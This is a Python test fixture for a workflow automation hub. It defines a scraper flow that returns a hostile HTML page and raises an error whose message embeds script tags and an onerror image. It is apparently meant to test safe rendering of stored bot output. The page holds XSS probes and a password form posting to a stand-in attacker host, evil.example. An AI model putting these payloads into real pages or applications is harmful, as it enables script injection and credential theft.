"""Hostile text a bot can bring back, and a flow that stores it (RELIABILITY item 34).

``scrape`` returns a scraped page's HTML as its output; ``post`` then fails
with a business error whose message carries script and an ``onerror`` image,
so the run waits for review with all of it in the database.
"""

from __future__ import annotations

from pydantic import BaseModel

from hub import BusinessError, Flow, step

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(2)>"
MESSAGE = f"portal refused invoice 4711: {SCRIPT} {IMAGE}"
PAGE = (
    "<html><head><style>body { display: none }</style><script>alert(3)</script></head>"
    '<body><h1>Invoice 4711</h1><iframe src="javascript:alert(4)"></iframe>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
    '<a href="javascript:alert(5)">pay now</a></body></html>'
)


class Invoice(BaseModel):
    number: str


class Scraped(BaseModel):
    number: str
    url: str
    html: str


@step(retries=0)
def scrape(data: Invoice) -> Scraped:
    return Scraped(number=data.number, url="https://portal.example/invoices/4711", html=PAGE)


@step(retries=0)
def post(data: Scraped) -> Scraped:
    raise BusinessError(MESSAGE)


scraper = Flow("scraper", [scrape, post], description="A bot that meets a hostile page.")
